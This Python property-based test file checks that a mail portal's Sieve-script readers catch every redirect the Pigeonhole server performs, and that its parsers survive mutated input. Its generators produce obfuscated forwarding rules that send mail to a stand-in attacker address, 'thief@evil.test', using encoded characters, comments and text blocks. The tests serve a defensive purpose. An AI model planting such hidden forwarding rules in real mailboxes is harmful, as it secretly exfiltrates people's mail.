"""What the mail server does with a script, the portal has seen in it: made-up scripts, run by Pigeonhole."""

import re
from collections.abc import Iterator
from contextlib import suppress
from itertools import pairwise

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from sievelib.parser import Parser

from mailservers.drivers.base import RuleEdit
from mailservers.drivers.sieve_reading import SOMEWHERE, has_vacation, included, redirects
from mailservers.drivers.sieve_tokens import MOST_TOKENS, tokens
from mailservers.drivers.switching_off import edited, rules, switched_off
from tests.vacation.sieve_engines import Pigeonhole, pigeonhole
from vacation.forward_reading import read_script
from vacation.reply_reading import NotUnderstood
from vacation.sieve_parsing import NotSieve, parse

REQUIRE = (
    'require ["copy", "vacation", "variables", "encoded-character", "date", "relational", "fileinto",'
    ' "include", "envelope"];\n'
)
MAIL = "From: friend@far.test\nTo: anna@example.test\nSubject: false\nMessage-ID: <1@far.test>\n\nHello\n"

BLANK = st.sampled_from(
    [
        " ",
        "\n",
        "\r\n",
        "\t",
        "\r\n\r\n",
        " /* if false { */ ",
        ' # redirect "no@no.test";\n',
        "/**/",
        " \r\t",
    ]
)
ADDRESS = st.sampled_from(
    [
        *('"thief@evil.test"', '"Thief <thief@evil.test>"', '"thief @evil.test"', '"thief@evil.test (x)"'),
        *('"th\\ief@evil.test"', '"thief${hex:40}evil.test"', '"th${unicode: 69}ef@evil.test"', '"${a}"'),
        *(
            "text:\nthief@evil.test\n.\n",
            "text: # if false {\r\nthief@evil.test\r\n.\r\n",
            '"THIEF@EVIL.test"',
        ),
    ]
)
TEST = st.recursive(
    st.sampled_from(
        [
            *("true", "false", 'header :is "subject" ["if", "false", "{"]', 'header :is "if" "false"'),
            *("size :over 1", 'exists "subject"', 'header :contains "subject" "}"', 'envelope :is "to" "x"'),
            'currentdate :zone "+0000" :value "le" "date" "2024-06-14"',
            'currentdate :zone "+0200" :value "ge" "date" "2024-06-14"',
            'currentdate :value "ge" "iso8601" "2024-06-14T00:00:00Z"',
            'currentdate :value "lt" "year" "2046"',
            'currentdate :is "year" "1999"',
        ]
    ),
    lambda inner: (
        inner.map(lambda test: f"not {test}")
        | st.lists(inner, min_size=1, max_size=3).map(lambda tests: f"allof ({', '.join(tests)})")
        | st.lists(inner, min_size=1, max_size=3).map(lambda tests: f"anyof ({', '.join(tests)})")
    ),
    max_leaves=4,
)
ACTION = (
    st.builds(lambda blank, address: f"redirect{blank}{address};", BLANK, ADDRESS)
    | st.builds(lambda blank, address: f"ReDirect :copy{blank}{address}{blank};", BLANK, ADDRESS)
    | st.sampled_from(
        [
            *("keep;", "stop;", "return;", 'set "a" "thief@evil.test";', 'fileinto "if false {";'),
            *('vacation "Gone.";', "vacation :days 5text:\nif false {\n.\n;", 'vacation :handle "}" "x";'),
        ]
    )
)
COMMAND = st.recursive(
    ACTION,
    lambda inner: st.builds(
        lambda test, blank, block, others: f"if {test}{blank}{{{blank}{''.join(block)}}}{''.join(others)}",
        TEST,
        BLANK,
        st.lists(inner, max_size=2),
        st.sampled_from(
            [
                [""],
                ["\n", 'elsif true { redirect "thief@evil.test"; }'],
                [" ", 'else { redirect "thief@evil.test"; }'],
            ]
        ),
    ),
    max_leaves=6,
)
SCRIPT = st.builds(
    lambda parts, blank: REQUIRE + blank.join(parts) + "\n", st.lists(COMMAND, min_size=1, max_size=4), BLANK
)


@pytest.fixture(scope="module")
def server() -> Iterator[Pigeonhole]:
    with pigeonhole() as tools:
        yield tools


@settings(deadline=None, max_examples=120, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(script=SCRIPT)
@example(script=REQUIRE + 'if not header :is "if" "false" { redirect "thief@evil.test"; }\n')
def test_whatever_the_server_sends_was_seen(server: Pigeonhole, script: str) -> None:
    try:
        done = server.performed(script, MAIL, sender="friend@far.test", address="anna@example.test")
    except AssertionError:
        # It is no script for the server: two answers in one go, an action that can't follow another.
        return
    seen = redirects(script)
    sent = {address.lower() for address in re.findall(r"redirect message to: <?([^\s>]+)", done)}
    assert not sent - {*seen} or any(target.startswith(SOMEWHERE) for target in seen)
    assert "vacation message" not in done or has_vacation(script)


def mutated(script: str, places: list[tuple[int, str]]) -> str:
    for place, piece in places:
        at = place % (len(script) + 1)
        script = script[:at] + piece + script[at + (place % 3) :]
    return script


ODD = st.sampled_from(
    [*'"\\{};,()[]:#/*.\r\n\0', "text:", "if false {", "\ud800", "\U0001f600", "é", "${", "/*", "*/"]
)
MUTANTS = st.builds(mutated, SCRIPT, st.lists(st.tuples(st.integers(0, 5_000), ODD), max_size=6))


@settings(deadline=None)
@given(MUTANTS | st.text() | st.binary().map(lambda some: some.decode("utf-8", "surrogateescape")))
def test_no_reader_raises_whatever_it_is_given(script: str) -> None:
    assert len(tokens(script)) <= min(MOST_TOKENS, len(script))
    has_vacation(script)
    included(script)
    for target in redirects(script):
        assert "\0" not in target or "\0" in script
    with suppress(NotUnderstood):
        read_script(script)
    with suppress(NotSieve):
        parse(script)
    off = [RuleEdit("x", rule.text, after) for rule in rules(script) if (after := switched_off(rule))]
    on = [RuleEdit("x", edit.after, edit.before) for edit in reversed(off)]
    assert edited(edited(script, off), on) == script


@settings(deadline=None)
@given(SCRIPT)
def test_a_script_that_is_one_still_is_with_its_rules_switched_off(script: str) -> None:
    edits = [RuleEdit("x", rule.text, after) for rule in rules(script) if (after := switched_off(rule))]
    after = edited(script, edits)
    parse(after)
    if Parser().parse(script.replace("\r\n", "\n")):
        assert Parser().parse(after.replace("\r\n", "\n"))


@settings(deadline=None)
@given(MUTANTS)
def test_each_token_is_told_once_and_in_order(script: str) -> None:
    """The work grows with the script alone: nothing is looked at again."""
    places = [(token.start, token.end) for token in tokens(script)]
    assert all(start < end for start, end in places)
    assert all(before[1] <= after[0] for before, after in pairwise(places))
